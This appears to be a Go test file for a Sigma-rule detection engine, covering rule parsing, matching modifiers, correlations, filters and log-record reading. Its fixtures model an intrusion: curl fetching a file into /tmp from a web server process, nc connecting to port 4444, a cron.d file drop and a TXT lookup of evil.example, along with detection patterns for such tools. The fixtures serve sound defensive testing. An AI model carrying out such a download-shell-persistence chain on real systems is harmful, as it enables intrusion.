package sigma

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"github.com/omega-mesh/omega/swarm/event"
)

// rules reads rules that all have to be good.
func rules(t testing.TB, text string, opt Options) *Set {
	t.Helper()
	s := Parse("test", []byte(text), opt)
	for _, f := range s.Rejected {
		t.Fatalf("rejected: %s", f.Why)
	}
	return s
}

// one is a rule about a record of anywhere, whose detection is given.
func one(detection string) string {
	return "title: Test\nid: test\nlogsource: {category: process_creation}\ndetection:\n  " + strings.ReplaceAll(strings.TrimSpace(detection), "\n", "\n  ") + "\n"
}

func matches(t testing.TB, text string, fields map[string]string, message string, opt Options) bool {
	t.Helper()
	opt.AnySource = true
	d := NewDetector(rules(t, text, opt))
	hit := false
	d.Record(&Record{Fields: fields, Message: message}, 0, func(*Rule) { hit = true })
	return hit
}

func TestModifiers(t *testing.T) {
	for _, c := range []struct {
		selection string
		value     string
		want      bool
	}{
		{"F: curl", "CURL", true},
		{"F: curl", "curl ", false},
		{"F: cu?l", "cuRl", true},
		{"F: cu?l", "cul", false},
		{"F: 'a*b*c'", "A12bxxC", true},
		{"F: 'a*b*c'", "acb", false},
		{`F: 'a\*b'`, "a*b", true},
		{`F: 'a\*b'`, "axb", false},
		{`F: 'a\\*b'`, `a\xb`, true},
		{`F: 'a\\\*b'`, `a\*b`, true},
		{`F: 'c:\temp'`, `C:\TEMP`, true},
		{`F: 'c:\\\\temp'`, `C:\\TEMP`, true},
		{"F|contains: url", "a cURL b", true},
		{"F|startswith: /tmp/", "/tmp/x", true},
		{"F|startswith: /tmp/", "x/tmp/x", false},
		{"F|endswith: .sh", "a.SH", true},
		{"F|endswith: .sh", "a.sh ", false},
		{"F|contains|all: [a, b]", "xbxa", true},
		{"F|contains|all: [a, b]", "xbx", false},
		{"F|contains|cased: Url", "curl", false},
		{"F|contains|cased: Url", "cUrl", true},
		{"F|contains: 'ä'", "Ä", true},
		{"F|re: '^a[0-9]{2}$'", "a12", true},
		{"F|re: '^a[0-9]{2}$'", "A12", false},
		{"F|re|i: '^a[0-9]{2}$'", "A12", true},
		{"F|re|m: '^b$'", "a\nb\nc", true},
		{"F|re|s: 'a.b'", "a\nb", true},
		{"F|re: 'a.b'", "a\nb", false},
		{"F|cidr: 10.0.0.0/8", "10.2.3.4", true},
		{"F|cidr: 10.0.0.0/8", "11.2.3.4", false},
		{"F|cidr: '2001:db8::/32'", "2001:DB8::1", true},
		{"F|cidr: 10.0.0.0/8", "::ffff:10.1.1.1", true},
		{"F|cidr: 10.0.0.0/8", "gateway", false},
		{"F|lt: 5", "4.5", true},
		{"F|lte: 5", "5", true},
		{"F|gt: 5", "5", false},
		{"F|gte: 5", "0x10", true},
		{"F|gt: 5", "many", false},
		{"F|neq: 5", "5", false},
		{"F|neq: [5, 6]", "7", true},
		{"F: 5", "5", true},
		{"F: true", "True", true},
		{"F: ''", "", true},
		{"F: ''", "x", false},
		{"F: null", "x", false},
		{"G: null", "x", true},
		{"F|exists: true", "", true},
		{"G|exists: true", "x", false},
		{"G|exists: false", "x", true},
		{"F|windash|contains: ' -enc '", "x /enc y", true},
		{"F|windash|contains: ' -enc '", "x ―enc y", true},
		{"F|windash|contains: ' -enc '", "x +enc y", false},
		{"F|base64: foo", "Zm9v", true},
		{"F|base64offset|contains: /bin/sh", "xx L2Jpbi9za", true},
		{"F|base64offset|contains: /bin/sh", "eC9iaW4vc2g=", true},
		{"F|base64offset|contains: /bin/sh", "YWEvYmluL3No", true},
		{"F|wide|base64offset|contains: cmd", "YwBtAGQA", true},
		{"F|utf16be|base64: ab", "AGEAYg==", true},
		{"F|fieldref: H", "Other", true},
		{"F|fieldref|startswith: H", "other one", true},
		{"F|fieldref|neq: H", "other", false},
		{"T|hour: 23", "", true},
		{"T|hour|gte: 22", "", true},
		{"T|minute|lt: 10", "", false},
		{"T|month: 11", "", true},
		{"T|year: 2026", "", true},
		{"T|week: 48", "", true},
		{"T|day: 23", "", true},
		{"F|expand: '%admins%-x'", "bob-x", true},
		{"F|expand: '%admins%-x'", "eve-x", false},
		{`F|expand: '\%admins%'`, "%admins%", true},
		{"F: '%admins%'", "%admins%", true},
		{"M: b", "", true}, // one of several values
		{"M|contains|all: [a, b]", "", true},
	} {
		fields := map[string]string{"F": c.value, "H": "other", "T": "2026-11-23T23:45:00Z", "M": "a\x00b"}
		got := matches(t, one("s:\n  "+c.selection+"\ncondition: s"), fields, "", Options{Placeholders: map[string][]string{"admins": {"alice", "bob"}}})
		if got != c.want {
			t.Errorf("%s on %q: %v", c.selection, c.value, got)
		}
	}
}

func TestConditions(t *testing.T) {
	const selections = "sel_a: {A: 1}\nsel_b: {B: 1}\nfilter_x: {X: 1}\n_hidden: {H: 1}\nwords:\n  - foo\n  - b?r\nboth:\n  '|all':\n    - foo\n    - qux\nmaps:\n  - A: 1\n  - B: 1\n    X: 1\n"
	for _, c := range []struct {
		condition string
		fields    string // those that are 1
		message   string
		want      bool
	}{
		{"sel_a", "A", "", true},
		{"sel_a and sel_b", "A", "", false},
		{"sel_a or sel_b", "B", "", true},
		{"sel_a and not filter_x", "A", "", true},
		{"sel_a and not filter_x", "AX", "", false},
		{"sel_b or sel_a and filter_x", "B", "", true},
		{"(sel_b or sel_a) and filter_x", "B", "", false},
		{"not sel_a and not sel_b", "", "", true},
		{"not (sel_a and sel_b)", "A", "", true},
		{"1 of sel_*", "B", "", true},
		{"all of sel_*", "B", "", false},
		{"all of sel_*", "AB", "", true},
		{"any of sel_*", "A", "", true},
		{"sel_a AND NOT 1 OF filter*", "A", "", true},
		{"1 of them", "H", "", false},
		{"words", "", "a FOO here", true},
		{"words", "", "a bar here", true},
		{"words", "", "nothing", false},
		{"both", "", "foo only", false},
		{"both", "", "qux and foo", true},
		{"maps", "B", "", false},
		{"maps", "BX", "", true},
		{"[sel_a, sel_b]", "B", "", true},
	} {
		fields := map[string]string{}
		for _, f := range c.fields {
			fields[string(f)] = "1"
		}
		if got := matches(t, one(selections+"condition: "+c.condition), fields, c.message, Options{}); got != c.want {
			t.Errorf("%s on %s %q: %v", c.condition, c.fields, c.message, got)
		}
	}
}

// programs is a text of rules whose expressions are as large as they may be.
func programs(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "title: a\nid: r%d\nlogsource: {product: linux}\ndetection: {s: {A|re: '%d(a{30}){30}'}, condition: s}\n---\n", i, i)
	}
	return b.String()
}

// filtered is some rules, and a filter of many values that concerns each of them.
func filtered(rules, values int) string {
	var b strings.Builder
	for i := range rules {
		fmt.Fprintf(&b, "title: a\nid: r%d\nlogsource: {product: linux}\ndetection: {s: {A: %d}, condition: s}\n---\n", i, i)
	}
	b.WriteString("title: f\nlogsource: {product: linux}\nfilter:\n  rules: any\n  s:\n    A:\n")
	for i := range values {
		fmt.Fprintf(&b, "    - v%d\n", i)
	}
	b.WriteString("  condition: not s\n")
	return b.String()
}

func TestRefuses(t *testing.T) {
	bomb := "title: a\nlogsource: {product: linux}\na: &a [x,x,x,x,x,x,x,x,x,x]\n"
	for i := range 9 {
		bomb += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", 'b'+i, 'b'+i, 'a'+i, 'a'+i, 'a'+i, 'a'+i, 'a'+i, 'a'+i, 'a'+i, 'a'+i, 'a'+i, 'a'+i)
	}
	for name, c := range map[string]struct{ text, why string }{
		"no YAML":                 {"a: [", "did not find"},
		"a list":                  {"- a", "a rule is a map"},
		"a bomb":                  {bomb, "aliases counted"},
		"a deep one":              {"title: " + strings.Repeat("[", 200) + strings.Repeat("]", 200), "nested"},
		"no title":                {"logsource: {product: linux}\ndetection: {s: {A: 1}, condition: s}", "title"},
		"no source":               {"title: a\ndetection: {s: {A: 1}, condition: s}", "log source"},
		"no condition":            {"title: a\nlogsource: {product: linux}\ndetection: {s: {A: 1}}", "no condition"},
		"no selection":            {one("s: {A: 1}\ncondition: t"), "no selection \"t\""},
		"a bracket":               {one("s: {A: 1}\ncondition: (s"), "never closed"},
		"an end":                  {one("s: {A: 1}\ncondition: s and"), "it ends"},
		"too much":                {one("s: {A: 1}\ncondition: s s"), "did not expect"},
		"deep brackets":           {one("s: {A: 1}\ncondition: " + strings.Repeat("(", 100) + "s" + strings.Repeat(")", 100)), "nested"},
		"an aggregation":          {one("s: {A: 1}\ncondition: s | count() > 5"), "replaced by correlation"},
		"an unknown modifier":     {one("s: {A|sounds: 1}\ncondition: s"), "no modifier"},
		"all of one":              {one("s: {A|all: 1}\ncondition: s"), "single value"},
		"a backreference":         {one("s: {A|re: '(a)\\1'}\ncondition: s"), "regular expression"},
		"a look ahead":            {one("s: {A|re: 'a(?=b)'}\ncondition: s"), "regular expression"},
		"a large program":         {one("s: {A|re: '" + strings.Repeat("(a{30}){30}", 8) + "'}\ncondition: s"), "too large"},
		"many large programs":     {programs(600), "all rules together"},
		"a filter for all":        {filtered(1200, 1000), "all rules together"},
		"a huge repetition":       {one("s: {A|re: '((a{1000}){1000}){1000}'}\ncondition: s"), "regular expression"},
		"no network":              {one("s: {A|cidr: 10/8/8}\ncondition: s"), "no network"},
		"no number":               {one("s: {A|lt: many}\ncondition: s"), "no number"},
		"a key twice":             {one("s: {A: 1, A: 2}\ncondition: s"), "stands twice"},
		"an empty selection":      {one("s: {}\ncondition: s"), "empty"},
		"a level of nobody":       {"level: worst\n" + one("s: {A: 1}\ncondition: s"), "level"},
		"a map for a value":       {one("s: {A: {B: 1}}\ncondition: s"), "map for its value"},
		"nobody's like that":      {one("s: {A: 1}\ncondition: 1 of x*"), "called like"},
		"a control character":     {"title: \"a\\e[31m\"\nlogsource: {product: linux}\ndetection: {s: {A: 1}, condition: s}", "printable"},
		"an unknown correlation":  {"title: a\ncorrelation: {type: magic, rules: [x], timespan: 1m}", "correlation type"},
		"no timespan":             {"title: a\ncorrelation: {type: temporal, rules: [x]}", "timespan"},
		"a timespan of years":     {"title: a\ncorrelation: {type: temporal, rules: [x], timespan: 90000d}", "timespan"},
		"a count of nothing":      {"title: a\ncorrelation: {type: event_count, rules: [x], timespan: 1m}", "needs a condition"},
		"a rule that is not here": {"title: a\nid: a\ncorrelation: {type: temporal, rules: [x], timespan: 1m}", "no rule \"x\""},
		"a ring":                  {"title: a\nid: a\ncorrelation: {type: temporal, rules: [b], timespan: 1m}\n---\ntitle: b\nid: b\ncorrelation: {type: temporal, rules: [a], timespan: 1m}", "refers to itself"},
		"an id twice":             {one("s: {A: 1}\ncondition: s") + "---\n" + one("s: {A: 2}\ncondition: s"), "also the id"},
	} {
		s := Parse("test", []byte(c.text), Options{AnySource: true})
		if len(s.Rejected) == 0 {
			t.Errorf("%s: taken", name)
		} else if !strings.Contains(s.Rejected[0].Why, c.why) {
			t.Errorf("%s: %s", name, s.Rejected[0].Why)
		}
		if s.Total() > 0 && s.Total() != s.Loaded()+len(s.NotApplicable)+len(s.Rejected) {
			t.Errorf("%s: %d rules, %d loaded, %d not applicable, %d rejected", name, s.Total(), s.Loaded(), len(s.NotApplicable), len(s.Rejected))
		}
	}
}

// A rule that no event of this host can match is not applicable, and says why.
func TestNotApplicable(t *testing.T) {
	for name, c := range map[string]struct{ text, why string }{
		"windows":         {"title: a\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image: x}, condition: s}", "windows"},
		"proxy":           {"title: a\nlogsource: {category: proxy}\ndetection: {s: {c-uri: x}, condition: s}", "proxy"},
		"a field":         {"title: a\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image: x, IntegrityLevel: High}, condition: s}", "IntegrityLevel"},
		"a placeholder":   {"title: a\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {User|expand: '%nobody%'}, condition: s}", "nobody"},
		"on another rule": {"title: w\nid: w\nlogsource: {product: windows}\ndetection: {s: {Image: x}, condition: s}\n---\ntitle: c\ncorrelation: {type: event_count, rules: [w], timespan: 1m, condition: {gte: 2}}", "windows"},
	} {
		s := rules(t, c.text, Options{})
		if len(s.Rules) != 0 || len(s.NotApplicable) == 0 || !strings.Contains(s.NotApplicable[0].Why, c.why) {
			t.Errorf("%s: %d loaded, %v", name, len(s.Rules), s.NotApplicable)
		}
	}
	open := rules(t, "title: a\nid: a\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image: x}, condition: s}\n---\ntitle: f\nlogsource: {product: linux}\nfilter: {rules: any, s: {User|expand: '%nobody%'}, condition: not s}", Options{})
	if len(open.Rules) != 1 || open.Total() != open.Loaded()+len(open.NotApplicable) || len(open.NotApplicable) != 1 || !strings.Contains(open.NotApplicable[0].Why, "nobody") {
		t.Errorf("a filter with a placeholder nobody fills: %d loaded of %d, %v", open.Loaded(), open.Total(), open.NotApplicable)
	}
	s := rules(t, "title: a\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image: x}, f: {IntegrityLevel: High}, condition: s and not f}", Options{})
	if len(s.Rules) != 1 {
		t.Errorf("a rule that only leaves out by a field we lack applies: %v", s.NotApplicable)
	}
}

const correlations = `
title: Failed
name: failed
logsource: {product: linux, service: sshd}
detection: {s: {result: failed}, condition: s}
---
title: Succeeded
name: succeeded
logsource: {product: linux, service: sshd}
detection: {s: {result: ok}, condition: s}
---
title: Many
name: many
correlation: {type: event_count, rules: [failed], group-by: [user], timespan: 1m, condition: {gte: 3}}
---
title: Guessed
name: guessed
correlation: {type: temporal_ordered, rules: [many, succeeded], group-by: [user], timespan: 5m, generate: true}
---
title: Spray
name: spray
correlation: {type: value_count, rules: [failed], group-by: [from], timespan: 1m, condition: {field: user, gte: 3}}
---
title: Both
name: both
correlation: {type: temporal, rules: [failed, succeeded], group-by: [who], timespan: 1m, generate: true, aliases: {who: {failed: user, succeeded: from}}}
---
title: Much
name: much
correlation: {type: value_sum, rules: [failed], group-by: [user], timespan: 1m, condition: {field: bytes, gt: 100}}
---
title: Mean
name: mean
correlation: {type: value_avg, rules: [failed], group-by: [user], timespan: 1m, condition: {field: bytes, gt: 50}}
---
title: Median
name: median
correlation: {type: value_percentile, rules: [failed], group-by: [user], timespan: 1m, condition: {field: bytes, percentile: 50, gte: 60}}
`

func TestCorrelations(t *testing.T) {
	type line struct {
		at                        int // seconds
		result, user, from, bytes string
	}
	for name, c := range map[string]struct {
		lines []line
		want  string // the correlation's name, and after which line
	}{
		"count":                 {[]line{{0, "failed", "a", "1", ""}, {20, "failed", "a", "2", ""}, {40, "failed", "a", "3", ""}}, "many 2"},
		"count by group":        {[]line{{0, "failed", "a", "1", ""}, {20, "failed", "b", "2", ""}, {40, "failed", "a", "3", ""}}, ""},
		"count within its time": {[]line{{0, "failed", "a", "1", ""}, {20, "failed", "a", "2", ""}, {61, "failed", "a", "3", ""}}, ""},
		"chain":                 {[]line{{0, "failed", "a", "1", ""}, {1, "failed", "a", "2", ""}, {2, "failed", "a", "3", ""}, {100, "ok", "a", "9", ""}}, "many 2 guessed 3"},
		"out of order":          {[]line{{0, "ok", "a", "9", ""}, {1, "failed", "a", "1", ""}, {2, "failed", "a", "2", ""}, {3, "failed", "a", "3", ""}}, "many 3"},
		"values":                {[]line{{0, "failed", "a", "1", ""}, {1, "failed", "b", "1", ""}, {2, "failed", "b", "1", ""}, {3, "failed", "c", "1", ""}}, "spray 3"},
		"aliases":               {[]line{{0, "failed", "x", "1", ""}, {1, "ok", "b", "x", ""}}, "both 1"},
		"sum":                   {[]line{{0, "failed", "a", "1", "45"}, {1, "failed", "a", "1", "45"}, {30, "failed", "b", "1", "20"}}, ""},
		"more in sum":           {[]line{{0, "failed", "q", "1", "49"}, {1, "failed", "q", "1", "50"}, {2, "failed", "q", "1", "2"}}, "many 2 much 2"},
		"mean":                  {[]line{{0, "failed", "a", "1", "40"}, {1, "failed", "a", "2", "61"}}, "much 1 mean 1"},
		"median":                {[]line{{0, "failed", "m", "1", "60"}}, "mean 0 median 0"},
	} {
		d := NewDetector(rules(t, correlations, Options{AnySource: true}))
		var got []string
		for i, l := range c.lines {
			r := &Record{Source: LogSource{Product: "linux", Service: "sshd"}, Fields: map[string]string{"result": l.result, "user": l.user, "from": l.from}}
			if l.bytes != "" {
				r.Fields["bytes"] = l.bytes
			}
			d.Record(r, int64(l.at)*int64(time.Second), func(rule *Rule) {
				if rule.correlation != nil {
					got = append(got, fmt.Sprintf("%s %d", rule.Name, i))
				}
			})
		}
		if s := strings.Join(got, " "); s != c.want {
			t.Errorf("%s: %q, want %q", name, s, c.want)
		}
	}
}

// Filters are joined by "and" to the rules they name.
func TestFilters(t *testing.T) {
	const text = "title: R\nid: r\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image|endswith: /curl}, condition: s}\n---\n" +
		"title: F\nlogsource: {product: linux}\nfilter: {rules: [r], selection: {User: backup}, condition: not selection}\n---\n" +
		"title: Other source\nlogsource: {product: windows}\nfilter: {rules: any, selection: {User: eve}, condition: not selection}\n"
	for user, want := range map[string]bool{"backup": false, "eve": true} {
		if got := matches(t, text, map[string]string{"Image": "/usr/bin/curl", "User": user}, "", Options{}); got != want {
			t.Errorf("%s: %v", user, got)
		}
	}
}

func TestOwnEvents(t *testing.T) {
	exec := &event.Event{Class: event.ClassProcess, Activity: event.ActivityExec, Time: 9, Process: event.Process{Key: event.ProcessKey{PID: 7}, Exe: "/usr/bin/curl", Args: "curl\x00-o\x00/tmp/x\x00http://198.51.100.7/x", UID: 0, ParentExe: "/usr/sbin/nginx"}}
	connect := &event.Event{Class: event.ClassNetwork, Activity: event.ActivityConnect, Network: event.Network{Remote: netip.MustParseAddrPort("198.51.100.7:4444"), Protocol: 6}, Process: event.Process{Key: event.ProcessKey{PID: 7}, Exe: "/usr/bin/nc"}}
	created := &event.Event{Class: event.ClassFile, Activity: event.ActivityFileCreate, File: event.File{Path: "/etc/cron.d/x"}, Process: event.Process{Key: event.ProcessKey{PID: 7}}}
	asked := &event.Event{Class: event.ClassDNS, Activity: event.ActivityDNSQuery, DNS: event.DNS{Name: "evil.example", Type: 16}}
	for _, c := range []struct {
		source, selection string
		e                 *event.Event
		want              bool
	}{
		{"{product: linux, category: process_creation}", "{Image|endswith: /curl, CommandLine|contains: ' -o /tmp', User: root, ParentImage|endswith: nginx}", exec, true},
		{"{product: linux, category: process_creation}", "{Image|endswith: /wget}", exec, false},
		{"{product: linux, category: file_event}", "{Image|endswith: /curl}", exec, false},
		{"{product: linux, service: auditd}", "{type: EXECVE, a0: curl, a1: -o}", exec, true},
		{"{product: linux, service: auditd}", "{type: SYSCALL, exe|endswith: curl}", exec, true},
		{"{product: linux, service: auditd}", "{type: USER_AUTH}", exec, false},
		{"{product: linux, service: auditd}", "{type: PATH, name|startswith: /etc/cron, nametype: CREATE}", created, true},
		{"{category: network_connection}", "{DestinationPort: 4444, DestinationIp|cidr: 198.51.100.0/24, Initiated: 'true'}", connect, true},
		{"{category: file_event, product: linux}", "{TargetFilename|startswith: /etc/cron}", created, true},
		{"{category: dns_query}", "{QueryName|endswith: .example}", asked, true},
		{"{category: dns}", "{query|contains: evil, record_type: TXT}", asked, true},
		{"{product: linux}", "{Image|endswith: /curl}", exec, true},
	} {
		s := rules(t, "title: T\nid: t\nlogsource: "+c.source+"\ndetection: {s: "+c.selection+", condition: s}\nlevel: high\ntags: [attack.t1105, attack.execution]\n", Options{})
		if len(s.Rules) != 1 {
			t.Fatalf("%s %s: %v", c.source, c.selection, s.NotApplicable)
		}
		var found []event.Finding
		if err := NewDetector(s).Detect(context.Background(), []*event.Event{c.e}, func(f event.Finding) { found = append(found, f) }); err != nil {
			t.Fatal(err)
		}
		if (len(found) == 1) != c.want {
			t.Errorf("%s %s: %d findings", c.source, c.selection, len(found))
		} else if c.want && (found[0].RuleID != "t" || found[0].Severity != event.SeverityHigh || len(found[0].Attack) != 1 || found[0].Attack[0] != "T1105") {
			t.Errorf("%+v", found[0])
		}
	}
}

// However the literals fall, the matcher finds what asking every rule by itself finds.
func TestMatcherFindsWhatEachRuleWould(t *testing.T) {
	words := rapid.SampledFrom([]string{"a", "ab", "abc", "abcd", "bcde", "/usr/bin", "/tmp/x", "curl", "Curl", "ä", "", "x*y", "?", "*"})
	rapid.Check(t, func(t *rapid.T) {
		var leaf func() *expr
		n := 0
		leaf = func() *expr {
			n++
			slot := rapid.SampledFrom([]string{"A", "B"}).Draw(t, "slot")
			v := parseValue(words.Draw(t, "value"))
			v = v.open(rapid.Bool().Draw(t, "before"), rapid.Bool().Draw(t, "after"))
			return &expr{op: opAtom, atom: newText(slot, v, rapid.Bool().Draw(t, "cased"))}
		}
		var tree func(depth int) *expr
		tree = func(depth int) *expr {
			switch k := rapid.IntRange(0, 5).Draw(t, "kind"); {
			case depth > 3 || k < 2:
				return leaf()
			case k == 2:
				return negate(tree(depth + 1))
			case k == 3:
				return join(opOr, tree(depth+1), tree(depth+1))
			default:
				return join(opAnd, tree(depth+1), tree(depth+1), tree(depth+1))
			}
		}
		var all []*Rule
		for range rapid.IntRange(1, 8).Draw(t, "rules") {
			all = append(all, &Rule{detection: tree(0), Source: LogSource{Category: "c"}})
		}
		m := newMatcher(all)
		p := m.plan(func(*Rule) bool { return true })
		s := newScan(m)
		for range 4 {
			r := &Record{Fields: map[string]string{}}
			for _, slot := range []string{"A", "B"} {
				if rapid.Bool().Draw(t, "there") {
					r.Fields[slot] = words.Draw(t, "text") + words.Draw(t, "text") + rapid.SampledFrom([]string{"", "\x00abc"}).Draw(t, "more")
				}
			}
			hits := map[int32]bool{}
			for _, i := range s.match(p, nil, r) {
				hits[i] = true
			}
			for i, rule := range all {
				if want := naive(rule.detection, r); want != hits[int32(i)] {
					t.Fatalf("rule %d on %q: %v, alone %v", i, r.Fields, hits[int32(i)], want)
				}
			}
		}
	})
}

func naive(e *expr, r *Record) bool {
	switch e.op {
	case opAtom:
		s, ok := r.Fields[e.atom.slot]
		if !ok {
			return false
		}
		for part := range strings.SplitSeq(s, "\x00") {
			if e.atom.matchText(part, lower(part)) {
				return true
			}
		}
		return false
	case opNot:
		return !naive(e.kids[0], r)
	case opAnd:
		for _, k := range e.kids {
			if !naive(k, r) {
				return false
			}
		}
		return true
	case opOr:
		for _, k := range e.kids {
			if naive(k, r) {
				return true
			}
		}
		return false
	}
	return e.op == opTrue
}

func TestGlobIsLinearEnough(t *testing.T) {
	v := parseValue(strings.Repeat("*a", 200) + "b")
	if glob(v, strings.Repeat("a", 4096)) {
		t.Error("there is no b")
	}
	if !glob(parseValue("*a*b?d"), "xxaxxbcd") || glob(parseValue("a?"), "a") || !glob(parseValue("*"), "") || !glob(parseValue("ä?"), "äö") {
		t.Error("wrong")
	}
}

func TestRecords(t *testing.T) {
	for name, c := range map[string]struct {
		line   string
		source LogSource
		field  string
		want   string
	}{
		"sysmon, flat":      {`{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\x.exe"}`, LogSource{"process_creation", "windows", "sysmon"}, "Image", `C:\x.exe`},
		"sysmon, nested":    {`{"Event":{"System":{"EventID":{"#text":3},"Channel":"Linux-Sysmon/Operational"},"EventData":{"DestinationPort":53}}}`, LogSource{"network_connection", "linux", "sysmon"}, "DestinationPort", "53"},
		"sysmon for Linux":  {`{"EventID":11,"Image":"/usr/bin/touch","TargetFilename":"/tmp/x"}`, LogSource{Category: "file_event", Product: "linux"}, "TargetFilename", "/tmp/x"},
		"ECS, nested":       {`{"event":{"category":["process"],"type":["start"]},"host":{"os":{"type":"linux"}},"process":{"executable":"/bin/x","args":["x","y"]}}`, LogSource{Category: "process_creation", Product: "linux"}, "CommandLine", "x y"},
		"ECS, dotted":       {`{"event.category":"network","destination.ip":"192.0.2.1"}`, LogSource{Category: "network_connection"}, "DestinationIp", "192.0.2.1"},
		"auditd JSON":       {`{"type":"EXECVE","a0":"curl"}`, LogSource{Product: "linux", Service: "auditd"}, "a0", "curl"},
		"auditd's log":      {`type=EXECVE msg=audit(1.2:3): argc=2 a0="curl" a1=2D6F2078`, LogSource{Product: "linux", Service: "auditd"}, "a1", "-o x"},
		"security log":      {`{"Channel":"Security","EventID":4688,"NewProcessName":"C:\\y.exe"}`, LogSource{"process_creation", "windows", "security"}, "Image", `C:\y.exe`},
		"says it itself":    {`{"category":"process_creation","Image":"/bin/sh","Flags":[1,2]}`, LogSource{Category: "process_creation", Product: "linux"}, "Flags", "1\x002"},
		"a line of text":    {`sshd[1]: Failed password`, LogSource{}, "x", ""},
		"another's message": {`{"message":"hello"}`, LogSource{}, "message", "hello"},
	} {
		r, err := ReadRecord([]byte(c.line))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if r.Source != c.source || r.Fields[c.field] != c.want {
			t.Errorf("%s: %+v, %s=%q", name, r.Source, c.field, r.Fields[c.field])
		}
	}
	for _, bad := range []string{"", "{", `{"a":`, strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40)} {
		if _, err := ReadRecord([]byte(bad)); err == nil {
			t.Errorf("%.20q is taken", bad)
		}
	}
}

func FuzzRules(f *testing.F) {
	f.Add([]byte(one("s: {A|contains|all: [a, 'b*c'], B|re: 'x+'}\nf: {C|cidr: 10.0.0.0/8}\ncondition: s and not 1 of f*")))
	f.Add([]byte(correlations))
	f.Add([]byte("a: &a [*a]"))
	f.Add([]byte("title: F\nlogsource: {product: linux}\nfilter: {rules: any, selection: {User: x}, condition: not selection}"))
	r := &Record{Fields: map[string]string{"A": "a bxc", "B": "xx", "C": "10.1.1.1"}, Message: "a message"}
	e := &event.Event{Class: event.ClassProcess, Activity: event.ActivityExec, Process: event.Process{Exe: "/bin/sh", Args: "sh\x00-c"}}
	f.Fuzz(func(t *testing.T, b []byte) {
		if len(b) > 64<<10 {
			return
		}
		s := Parse("fuzz", b, Options{AnySource: true})
		d := NewDetector(s)
		d.Record(r, 1, func(*Rule) {})
		d.Event(e, func(*Rule) {})
	})
}

func FuzzCondition(f *testing.F) {
	for _, s := range []string{"a and not (b or 1 of c*)", "all of them", "((", "1 of", "not not a"} {
		f.Add(s)
	}
	named := map[string]*expr{"a": {op: opAtom, atom: &atom{}}, "b": always, "c1": never, "_d": always}
	f.Fuzz(func(t *testing.T, s string) {
		e, err := parseCondition(s, named)
		if err == nil && e == nil {
			t.Fatal("neither an expression nor an error")
		}
	})
}

func FuzzRecord(f *testing.F) {
	f.Add([]byte(`{"EventID":1,"Image":"C:\\x.exe","a":[1,{"b":null}]}`))
	f.Add([]byte(`type=EXECVE msg=audit(1.2:3): argc=2 a0="curl" a1=2D6F2078`))
	f.Fuzz(func(t *testing.T, b []byte) {
		if r, err := ReadRecord(b); err == nil {
			r.Time()
		}
	})
}
